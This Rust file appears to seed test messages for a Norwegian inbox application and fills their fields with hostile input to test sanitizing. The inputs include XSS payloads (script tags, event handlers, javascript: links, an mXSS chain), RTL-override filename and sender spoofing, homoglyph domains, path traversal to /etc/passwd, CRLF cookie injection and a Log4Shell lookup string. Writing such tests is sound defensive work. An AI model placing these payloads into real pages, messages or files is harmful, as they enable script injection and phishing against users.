//! Texts that are out to do harm, or that break what draws them.

use super::super::super::World;
use super::super::super::compose::Ground;
use super::super::super::compose::draft::{Draft, hours};
use super::super::super::dialogs::dialog::Typed;
use super::super::super::dialogs::kinds::{Priority, Verb};
use super::super::super::dialogs::text::Localized;
use super::special::{MAIL, tagged};

/// Markdown that tries everything: raw HTML, scripts in addresses, pictures, reference links, forged
/// host names, bidirectional overrides.
const MARKDOWN: &str = r#"# Hei <script>alert(1)</script>

<img src=x onerror=alert(1)> ![bilde](https://sporing.example/pixel.png)

[klikk](javascript:alert(1)) [klikk](JaVaScRiPt:alert(1)) [klikk](data:text/html,<script>alert(1)</script>)
[fil](file:///etc/passwd) [app](tauri://localhost) [usikker](http://kommune.example) [relativ](/logg-inn)
[https://skatteetaten.example](https://angriper.example) <https://аltinn.example>

[ref]: javascript:alert(1)
[klikk her][ref]

<iframe src="https://angriper.example"></iframe><form action="https://angriper.example"><input name="pid"></form>
<a href="https://angriper.example" onclick="alert(1)">lenke</a><style>*{display:none}</style>

| a | b |
|---|---|
| <b onmouseover=alert(1)>x</b> | `<script>` |

"#;

/// What a reader does not see: reversed text, and letters without width.
const UNSEEN: &str = "Snudd: \u{202e}gnp.exe\u{202c} Usynlig: a\u{200b}b\u{200d}c\u{feff}\n";

/// The same in HTML.
const HTML: &str = r#"<h1 onclick="alert(1)">Hei</h1><script>alert(1)</script>
<p style="position:fixed;inset:0">Dekker alt</p><img src="x" onerror="alert(1)">
<a href="javascript:alert(1)">klikk</a> <a href="https://kommune.example" target="_top">lenke</a>
<iframe srcdoc="<script>alert(1)</script>"></iframe><svg onload="alert(1)"></svg>
<table><tr><td background="https://sporing.example/pixel.png">celle</td></tr></table>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<p>Slutten</p>"#;

pub(super) fn add(world: &mut World, ground: &Ground<'_>) {
    for build in [texts, html, long_words] {
        if let Some(draft) = build(world, ground) {
            draft.done(world);
        }
    }
}

fn texts(world: &World, ground: &Ground<'_>) -> Option<Draft> {
    let title =
        "<script>alert('tittel')</script> \u{202e}slaf\u{202c} & \u{200b}\u{feff}<b>fet</b>";
    let mut draft = tagged(world, ground, "hostile", MAIL, hours(17), [title; 3])?;
    draft.summary(Localized::nb(
        "</div><img src=x onerror=alert(1)> {{7*7}} %s %n ${jndi:ldap://x} \u{1f9fe}\u{200d}\u{1f525}",
    ));
    draft.content().sender_name = Some(Localized::nb(
        "Skatteetaten\u{202e}netatetakS\u{202c} \u{2066}<i>egentlig noen andre</i>\u{2069}",
    ));
    draft.content().additional_info = Some(Typed {
        value: Localized::nb("Mer <b onclick=alert(1)>info</b> og [lenke](javascript:alert(1))"),
        media_type: "text/markdown".to_owned(),
    });
    draft.content().extended_status = Some(Localized::nb("<u>Haster</u>"));
    draft.dialog.extended_status = Some("<script>".to_owned());
    draft.markdown(Localized::nb(format!("{MARKDOWN}{UNSEEN}")));
    for (name, shown) in [
        ("faktura.pdf", "faktura\u{202e}fdp.exe"),
        ("sti.pdf", "../../../etc/passwd"),
        ("con.txt", "CON.txt"),
        ("styring.txt", "a\r\nSet-Cookie: x=1\u{0}.txt"),
    ] {
        let file = draft.file(name, Localized::nb(shown));
        file.name = Some(shown.to_owned());
    }
    for (url, text) in [
        ("javascript:alert(1)", "Åpne <script>"),
        ("file:///etc/passwd", "Les fil"),
    ] {
        let title = Localized::nb(text);
        draft
            .button("read", "", Verb::Get, Priority::Tertiary, title)
            .url = url.to_owned();
    }
    Some(draft)
}

fn html(world: &World, ground: &Ground<'_>) -> Option<Draft> {
    let title = ["Innhold i HTML"; 3];
    let mut draft = tagged(world, ground, "hostile-html", MAIL, hours(18), title)?;
    draft.html(Localized::nb(HTML));
    draft.content().additional_info = Some(Typed {
        value: Localized::nb(
            "<p>Lov<a href=\"javascript:alert(1)\">lig</a> <em>tekst</em><script>x</script></p>",
        ),
        media_type: "text/html".to_owned(),
    });
    Some(draft)
}

fn long_words(world: &World, ground: &Ground<'_>) -> Option<Draft> {
    // As long as each may be.
    let word = "Fylkestrafikksikkerhetsutvalgssekretariatslederfunksjonene".repeat(5);
    let cut: String = word.chars().take(255).collect();
    let mut draft = tagged(world, ground, "long-words", MAIL, hours(19), [&cut; 3])?;
    draft.summary(Localized::nb(&cut));
    draft.content().sender_name = Some(Localized::nb(&cut));
    draft.markdown(Localized::nb(word.repeat(40)));
    Some(draft)
}
